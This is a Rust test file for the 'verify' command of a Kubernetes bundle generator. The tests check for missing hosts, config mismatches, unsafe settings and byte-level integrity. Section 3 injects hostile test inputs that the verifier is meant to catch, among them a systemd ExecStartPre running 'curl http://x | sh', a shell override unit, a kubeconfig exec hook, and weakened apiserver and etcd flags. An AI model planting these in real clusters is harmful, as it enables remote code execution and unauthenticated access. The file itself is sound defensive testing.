@@ -1,0 +1,628 @@
+//! `cpgen verify` checks what the bundle's files say: every host they name is there, the
+//! bundle is of the config given, nothing runs with unsafe settings or other programs, and
+//! with the secrets it proves the bundle byte for byte.
+
+mod util;
+
+use std::collections::BTreeSet;
+use std::path::Path;
+
+use cpgen::bundle::Bundle;
+use cpgen::verify::{self, read_archive, Code, Finding};
+use cpgen::Plan;
+use time::macros::datetime;
+use time::OffsetDateTime;
+
+use util::{example_text as example, plan_from};
+
+/// Inside every certificate's validity, far from its end.
+const AT: OffsetDateTime = datetime!(2026-02-01 00:00:00 UTC);
+
+fn golden_secrets(name: &str) -> cpgen::pki::Secrets {
+    cpgen::pki::Secrets::parse(
+        &std::fs::read_to_string(util::root().join(format!("golden/{name}.secrets.toml"))).unwrap(),
+    )
+    .unwrap()
+}
+
+/// The bundle of `examples/<name>.toml` with its golden secrets.
+fn built(name: &str) -> (Plan, Bundle) {
+    let plan = plan_from(&example(name));
+    let bundle = Bundle::build(&plan, &golden_secrets(name)).unwrap();
+    (plan, bundle)
+}
+
+/// The findings of verifying `bundle` as the CLI reads a .tar.gz.
+fn findings(bundle: &Bundle, plan: Option<&Plan>) -> (Vec<Finding>, String) {
+    let bytes = bundle.to_tar_gz().unwrap();
+    let mut read = Vec::new();
+    let tree = read_archive(bytes.as_slice(), &mut read);
+    let report = verify::verify_tree(&tree, plan, AT, read);
+    let text = report.render();
+    (report.findings, text)
+}
+
+fn codes(findings: &[Finding]) -> BTreeSet<Code> {
+    findings.iter().map(|f| f.code).collect()
+}
+
+/// True when a finding of `code` is about `file` and its message holds every one of `words`.
+fn has(findings: &[Finding], code: Code, file: &str, words: &[&str]) -> bool {
+    findings
+        .iter()
+        .any(|f| f.code == code && f.file == file && words.iter().all(|w| f.message.contains(w)))
+}
+
+/// `bundle` without the files `drop` selects (paths as in the bundle), the manifest redone.
+fn without(bundle: &Bundle, drop: impl Fn(&str) -> bool) -> Bundle {
+    let mut kept = Bundle::default();
+    for (path, file) in bundle.files().filter(|(p, _)| !drop(p)) {
+        match (&file.host, &file.target) {
+            (Some(host), Some(target)) => {
+                kept.insert_host_file(host, target, file.kind, file.contents.clone())
+            }
+            _ => kept.insert(path, file.kind, file.contents.clone()),
+        }
+    }
+    kept.with_manifest().unwrap()
+}
+
+/// `bundle` with `from` replaced by `to` in the file at `path`, the manifest redone so that
+/// only what the edit says can be found.
+fn edited(bundle: &Bundle, path: &str, from: &str, to: &str) -> Bundle {
+    let file = bundle.get(path).unwrap_or_else(|| panic!("no {path}"));
+    let text = String::from_utf8(file.contents.clone()).unwrap();
+    assert!(text.contains(from), "{path} lacks {from:?}");
+    let contents = text.replacen(from, to, 1).into_bytes();
+    let mut changed = bundle.clone();
+    match (&file.host, &file.target) {
+        (Some(host), Some(target)) => changed.insert_host_file(host, target, file.kind, contents),
+        _ => changed.insert(path, file.kind, contents),
+    }
+    changed.with_manifest().unwrap()
+}
+
+const ETCD_UNIT: &str = "hosts/kubem00/etc/systemd/system/etcd.service";
+const APISERVER_UNIT: &str = "hosts/kubem00/etc/systemd/system/kube-apiserver.service";
+const HAPROXY: &str = "hosts/kubernetes/etc/haproxy/haproxy.cfg";
+
+// ---- 1. every host the bundle names is in it ----
+
+#[test]
+fn a_bundle_with_a_master_removed_is_incomplete() {
+    let (_, bundle) = built("seed-ha");
+    let gone = without(&bundle, |p| p.starts_with("hosts/kubem02/"));
+    let (found, text) = findings(&gone, None);
+    assert!(
+        has(&found, Code::MissingHost, ETCD_UNIT, &["kubem02"]),
+        "{text}"
+    );
+    assert!(
+        has(&found, Code::MissingHost, APISERVER_UNIT, &["10.10.10.82"]),
+        "{text}"
+    );
+    assert!(
+        has(&found, Code::MissingHost, HAPROXY, &["10.10.10.82"]),
+        "{text}"
+    );
+    assert!(
+        has(&found, Code::MissingHost, "manifest.json", &["kubem02"]),
+        "{text}"
+    );
+    // Every other master's etcd and apiserver name it too.
+    assert!(
+        has(
+            &found,
+            Code::MissingHost,
+            "hosts/kubem01/etc/systemd/system/etcd.service",
+            &["kubem02"]
+        ),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_removed_master_is_found_by_the_units_when_the_manifest_forgets_it_too() {
+    let (_, bundle) = built("seed-ha");
+    let gone = without(&bundle, |p| p.starts_with("hosts/kubem02/"));
+    // The manifest's members lose kubem02 as well: only the units and HAProxy still say it.
+    let mut json: serde_json::Value =
+        serde_json::from_slice(&gone.get("manifest.json").unwrap().contents).unwrap();
+    json["members"]
+        .as_array_mut()
+        .unwrap()
+        .retain(|m| m["name"] != "kubem02");
+    let mut forged = gone.clone();
+    forged.insert(
+        "manifest.json",
+        cpgen::bundle::FileKind::Manifest,
+        serde_json::to_vec_pretty(&json).unwrap(),
+    );
+    let forged = forged.with_manifest().unwrap();
+    let (found, text) = findings(&forged, None);
+    assert!(
+        !found.iter().any(|f| f.file == "manifest.json"),
+        "the manifest is consistent: {text}"
+    );
+    assert!(
+        has(&found, Code::MissingHost, ETCD_UNIT, &["kubem02"]),
+        "{text}"
+    );
+    assert!(
+        has(&found, Code::MissingHost, HAPROXY, &["10.10.10.82"]),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_master_without_its_apiserver_unit_is_found() {
+    let (_, bundle) = built("separate-cas");
+    let gone = without(&bundle, |p| {
+        p == "hosts/kubem01/etc/systemd/system/kube-apiserver.service"
+    });
+    let (found, text) = findings(&gone, None);
+    assert!(
+        has(
+            &found,
+            Code::MissingHost,
+            HAPROXY,
+            &["10.10.10.81", "kube-apiserver"]
+        ),
+        "{text}"
+    );
+    assert!(
+        has(
+            &found,
+            Code::MissingHost,
+            "manifest.json",
+            &["kubem01", "kube-apiserver"]
+        ),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_removed_load_balancer_that_kubeconfigs_dial_is_found() {
+    let (_, bundle) = built("seed-ha");
+    let gone = without(&bundle, |p| p.starts_with("hosts/kubernetes/"));
+    let (found, text) = findings(&gone, None);
+    assert!(
+        has(
+            &found,
+            Code::MissingHost,
+            "admin/admin.kubeconfig",
+            &["kubernetes"]
+        ),
+        "{text}"
+    );
+}
+
+// ---- 2. the bundle is of the config given ----
+
+fn mismatches(bundle: &Bundle, config: &str) -> (Vec<Finding>, String) {
+    let plan = plan_from(config);
+    let (found, text) = findings(bundle, Some(&plan));
+    let mismatches: Vec<Finding> = found
+        .into_iter()
+        .filter(|f| f.code == Code::PlanMismatch)
+        .collect();
+    (mismatches, text)
+}
+
+#[test]
+fn the_config_it_was_built_from_matches() {
+    for name in ["seed-ha", "separate-cas", "on-masters-vip", "ipv6"] {
+        let plan = plan_from(&example(name));
+        let bundle = util::fresh_bundle(&plan);
+        let (found, text) = findings(&bundle, Some(&plan));
+        assert!(
+            !codes(&found).contains(&Code::PlanMismatch),
+            "{name}:\n{text}"
+        );
+    }
+}
+
+#[test]
+fn a_bundle_of_separate_cas_fails_against_seed_ha_through_the_cli() {
+    let dir = util::dir_with_config("separate-cas");
+    let out = util::cpgen_in(dir.path(), &["bundle", "cluster.toml", "--out-dir", "b"]);
+    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
+    std::fs::write(dir.path().join("seed-ha.toml"), example("seed-ha")).unwrap();
+    let out = util::cpgen_in(dir.path(), &["verify", "b", "--config", "seed-ha.toml"]);
+    let text = util::stdout(&out);
+    assert_eq!(util::code(&out), 1, "{text}");
+    assert!(text.contains("error[CP831]"), "{text}");
+    assert!(
+        text.contains("separate-cas") && text.contains("shared-ca"),
+        "{text}"
+    );
+    assert!(
+        text.contains("ECDSA P-256") && text.contains("RSA-2048"),
+        "{text}"
+    );
+    assert!(text.contains("1.33") && text.contains("1.31"), "{text}");
+}
+
+#[test]
+fn another_cluster_name_is_a_mismatch() {
+    let (_, bundle) = built("separate-cas");
+    let config = example("separate-cas").replace("[cluster]\n", "[cluster]\nname = \"prod\"\n");
+    let (found, text) = mismatches(&bundle, &config);
+    assert!(
+        has(
+            &found,
+            Code::PlanMismatch,
+            "manifest.json",
+            &["kubernetes", "prod"]
+        ),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_moved_master_is_a_mismatch_in_the_manifest_and_the_units() {
+    let (_, bundle) = built("separate-cas");
+    let config = example("separate-cas").replace("10.10.10.82", "10.10.10.92");
+    let (found, text) = mismatches(&bundle, &config);
+    assert!(
+        has(
+            &found,
+            Code::PlanMismatch,
+            "manifest.json",
+            &["kubem02", "10.10.10.82", "10.10.10.92"]
+        ),
+        "{text}"
+    );
+    assert!(
+        has(
+            &found,
+            Code::PlanMismatch,
+            "hosts/kubem02/etc/systemd/system/kube-apiserver.service",
+            &["10.10.10.82", "10.10.10.92"]
+        ),
+        "{text}"
+    );
+    assert!(
+        has(
+            &found,
+            Code::PlanMismatch,
+            "hosts/kubem02/etc/systemd/system/etcd.service",
+            &["10.10.10.82", "10.10.10.92"]
+        ),
+        "{text}"
+    );
+}
+
+#[test]
+fn hosts_in_only_one_of_config_and_bundle_are_mismatches() {
+    let (_, bundle) = built("separate-cas");
+    let config = example("separate-cas").replace("kubem01", "kubem09");
+    let (found, text) = mismatches(&bundle, &config);
+    assert!(
+        has(&found, Code::PlanMismatch, "hosts/kubem01/", &["kubem01"]),
+        "{text}"
+    );
+    assert!(
+        has(&found, Code::PlanMismatch, "hosts/kubem09/", &["kubem09"]),
+        "{text}"
+    );
+}
+
+#[test]
+fn ports_endpoint_and_components_are_compared() {
+    let (_, bundle) = built("separate-cas");
+    let config = example("separate-cas") + "\n[etcd]\nclient_port = 2381\npeer_port = 2382\n";
+    let (found, text) = mismatches(&bundle, &config);
+    assert!(
+        has(&found, Code::PlanMismatch, ETCD_UNIT, &["2379", "2381"]),
+        "{text}"
+    );
+    assert!(
+        has(&found, Code::PlanMismatch, ETCD_UNIT, &["2380", "2382"]),
+        "{text}"
+    );
+
+    let config = example("separate-cas")
+        .replace("[api]\n", "[api]\nbind_port = 6444\nport = 8443\n")
+        .replace(
+            "[[load_balancer.hosts]]",
+            "[load_balancer]\nbind_port = 8443\n\n[[load_balancer.hosts]]",
+        );
+    let (found, text) = mismatches(&bundle, &config);
+    assert!(
+        has(
+            &found,
+            Code::PlanMismatch,
+            APISERVER_UNIT,
+            &["6443", "6444"]
+        ),
+        "{text}"
+    );
+    assert!(
+        has(
+            &found,
+            Code::PlanMismatch,
+            "admin/admin.kubeconfig",
+            &["https://kubernetes:6443", "https://kubernetes:8443"]
+        ),
+        "{text}"
+    );
+}
+
+// ---- 3. unsafe settings and other programs ----
+
+/// The findings of `code` that a one-place edit of the separate-cas bundle causes.
+fn after_edit(path: &str, from: &str, to: &str) -> (Vec<Finding>, String) {
+    let (_, bundle) = built("separate-cas");
+    let (found, text) = findings(&edited(&bundle, path, from, to), None);
+    (found, text)
+}
+
+#[test]
+fn unsafe_apiserver_settings_are_errors() {
+    for (from, to, words) in [
+        (
+            "--authorization-mode=Node,RBAC",
+            "--authorization-mode=Node,RBAC,AlwaysAllow",
+            &["AlwaysAllow"][..],
+        ),
+        (
+            "--v=2",
+            "--anonymous-auth=true \\\n  --v=2",
+            &["anonymous-auth"],
+        ),
+        (
+            "--etcd-servers=https://10.10.10.80:2379",
+            "--etcd-servers=http://10.10.10.80:2379",
+            &["http://"],
+        ),
+    ] {
+        let (found, text) = after_edit(APISERVER_UNIT, from, to);
+        assert!(
+            has(&found, Code::UnsafeSetting, APISERVER_UNIT, words),
+            "{to}: {text}"
+        );
+        assert!(
+            found
+                .iter()
+                .filter(|f| f.code == Code::UnsafeSetting)
+                .all(|f| f.severity == cpgen::Severity::Error),
+            "{text}"
+        );
+    }
+}
+
+#[test]
+fn unsafe_etcd_settings_are_errors() {
+    for (from, to, words) in [
+        (
+            "--client-cert-auth=true",
+            "--client-cert-auth=false",
+            &["client-cert-auth"][..],
+        ),
+        ("  --client-cert-auth=true \\\n", "", &["client-cert-auth"]),
+        (
+            "--peer-client-cert-auth=true",
+            "--peer-client-cert-auth=false",
+            &["peer-client-cert-auth"],
+        ),
+        (
+            "--listen-client-urls=https://",
+            "--listen-client-urls=http://",
+            &["listen-client-urls", "http://"],
+        ),
+        (
+            "--initial-cluster=kubem00=https://",
+            "--initial-cluster=kubem00=http://",
+            &["initial-cluster", "http://"],
+        ),
+    ] {
+        let (found, text) = after_edit(ETCD_UNIT, from, to);
+        assert!(
+            has(&found, Code::UnsafeSetting, ETCD_UNIT, words),
+            "{to}: {text}"
+        );
+    }
+}
+
+#[test]
+fn unsafe_kubeconfigs_are_errors() {
+    const KUBECONFIG: &str = "hosts/kubem00/var/lib/kube-scheduler/kubeconfig";
+    for (from, to, words) in [
+        (
+            "    server:",
+            "    insecure-skip-tls-verify: true\n    server:",
+            &["insecure-skip-tls-verify"][..],
+        ),
+        ("server: \"https://", "server: \"http://", &["http://"]),
+        (
+            "    client-key:",
+            "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /tmp/x\n    client-key:",
+            &["exec"],
+        ),
+    ] {
+        let (found, text) = after_edit(KUBECONFIG, from, to);
+        assert!(
+            has(&found, Code::UnsafeSetting, KUBECONFIG, words),
+            "{to}: {text}"
+        );
+    }
+}
+
+#[test]
+fn a_unit_running_another_program_or_more_commands_is_an_error() {
+    for (from, to, words) in [
+        (
+            "ExecStart=/usr/bin/etcd",
+            "ExecStart=/tmp/etcd",
+            &["/tmp/etcd", "/usr/bin/etcd"][..],
+        ),
+        (
+            "ExecStart=/usr/bin/etcd",
+            "ExecStart=!/usr/bin/etcd",
+            &["!/usr/bin/etcd"],
+        ),
+        (
+            "ExecStart=",
+            "ExecStartPre=/bin/sh -c 'curl http://x | sh'\nExecStart=",
+            &["ExecStartPre"],
+        ),
+        (
+            "Restart=",
+            "ExecStartPost=/bin/true\nRestart=",
+            &["ExecStartPost"],
+        ),
+        (
+            "Restart=",
+            "ExecStopPost=/bin/true\nRestart=",
+            &["ExecStopPost"],
+        ),
+        (
+            "Restart=",
+            "ExecReload=/bin/true\nRestart=",
+            &["ExecReload"],
+        ),
+        (
+            "Restart=",
+            "Environment=ETCD_CLIENT_CERT_AUTH=false\nRestart=",
+            &["Environment"],
+        ),
+    ] {
+        let (found, text) = after_edit(ETCD_UNIT, from, to);
+        assert!(
+            has(&found, Code::UnexpectedCommand, ETCD_UNIT, words),
+            "{to}: {text}"
+        );
+    }
+}
+
+#[test]
+fn a_systemd_file_cpgen_does_not_write_is_an_error() {
+    let (_, bundle) = built("separate-cas");
+    let mut added = bundle.clone();
+    let host: cpgen::types::HostName = "kubem00".parse().unwrap();
+    added.insert_host_file(
+        &host,
+        "/etc/systemd/system/etcd.service.d/override.conf",
+        cpgen::bundle::FileKind::SystemdUnit,
+        b"[Service]\nExecStartPre=/bin/sh -c id\n".to_vec(),
+    );
+    let (found, text) = findings(&added.with_manifest().unwrap(), None);
+    assert!(
+        has(
+            &found,
+            Code::UnexpectedCommand,
+            "hosts/kubem00/etc/systemd/system/etcd.service.d/override.conf",
+            &[]
+        ),
+        "{text}"
+    );
+}
+
+#[test]
+fn cpgen_bundles_have_no_unsafe_setting() {
+    for name in ["seed-ha", "separate-cas", "on-masters-vip", "ipv6"] {
+        let plan = plan_from(&example(name));
+        let (found, text) = findings(&util::fresh_bundle(&plan), None);
+        let codes = codes(&found);
+        for code in [
+            Code::UnsafeSetting,
+            Code::UnexpectedCommand,
+            Code::MissingHost,
+        ] {
+            assert!(!codes.contains(&code), "{name}: {text}");
+        }
+    }
+}
+
+// ---- 4. byte for byte ----
+
+/// A directory with `cluster.toml`, its secrets and the bundle `b/` that `cpgen bundle`
+/// wrote from them.
+fn bundled(example_name: &str) -> tempfile::TempDir {
+    let dir = util::dir_with_config(example_name);
+    let out = util::cpgen_in(dir.path(), &["bundle", "cluster.toml", "--out-dir", "b"]);
+    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
+    dir
+}
+
+fn prove(dir: &Path) -> (i32, String, String) {
+    let out = util::cpgen_in(
+        dir,
+        &[
+            "verify",
+            "b",
+            "--config",
+            "cluster.toml",
+            "--secrets",
+            "cluster.secrets.toml",
+        ],
+    );
+    (util::code(&out), util::stdout(&out), util::stderr(&out))
+}
+
+#[test]
+fn a_clean_bundle_proves_identical() {
+    let dir = bundled("separate-cas");
+    assert!(dir.path().join("cluster.secrets.toml").exists());
+    let (code, out, err) = prove(dir.path());
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(out.contains("byte for byte"), "{out}");
+    assert!(!out.contains("CP834"), "{out}");
+}
+
+#[test]
+fn a_changed_removed_or_added_file_is_named() {
+    let dir = bundled("separate-cas");
+    let b = dir.path().join("b");
+    let unit = b.join("hosts/kubem01/etc/systemd/system/kube-scheduler.service");
+    let mut bytes = std::fs::read(&unit).unwrap();
+    let last = bytes.len() - 2;
+    bytes[last] ^= 0x20;
+    std::fs::write(&unit, bytes).unwrap();
+    std::fs::remove_file(b.join("hosts/kubem02/etc/kubernetes/pki/sa.pub")).unwrap();
+    std::fs::write(b.join("hosts/kubem00/etc/extra.conf"), "x\n").unwrap();
+    let (code, out, err) = prove(dir.path());
+    assert_eq!(code, 1, "{out}{err}");
+    for (file, word) in [
+        (
+            "hosts/kubem01/etc/systemd/system/kube-scheduler.service",
+            "differs",
+        ),
+        ("hosts/kubem02/etc/kubernetes/pki/sa.pub", "missing"),
+        ("hosts/kubem00/etc/extra.conf", "added"),
+    ] {
+        let line = out
+            .lines()
+            .find(|l| l.starts_with(&format!("error[CP834]: {file}: ")))
+            .unwrap_or_else(|| panic!("no CP834 for {file}:\n{out}"));
+        assert!(line.contains(word), "{line}");
+    }
+    assert!(!out.contains("byte for byte what"), "{out}");
+    // Only those three files are named.
+    assert_eq!(out.matches("error[CP834]").count(), 3, "{out}");
+}
+
+#[test]
+fn secrets_of_another_bundle_are_refused_and_never_filled() {
+    let dir = bundled("separate-cas");
+    // Secrets that lack a key this config needs: those of the shared-CA layout.
+    let other = bundled("seed-ha");
+    let secrets = dir.path().join("cluster.secrets.toml");
+    std::fs::copy(other.path().join("cluster.secrets.toml"), &secrets).unwrap();
+    let before = std::fs::read(&secrets).unwrap();
+    let (code, out, err) = prove(dir.path());
+    assert_ne!(code, 0, "{out}{err}");
+    assert!(err.contains("do not belong"), "{err}");
+    assert_eq!(std::fs::read(&secrets).unwrap(), before, "secrets changed");
+}
+
+#[test]
+fn secrets_without_a_config_is_a_usage_error() {
+    let dir = bundled("separate-cas");
+    let out = util::cpgen_in(
+        dir.path(),
+        &["verify", "b", "--secrets", "cluster.secrets.toml"],
+    );
+    assert_eq!(util::code(&out), 2, "{}", util::stderr(&out));
+}
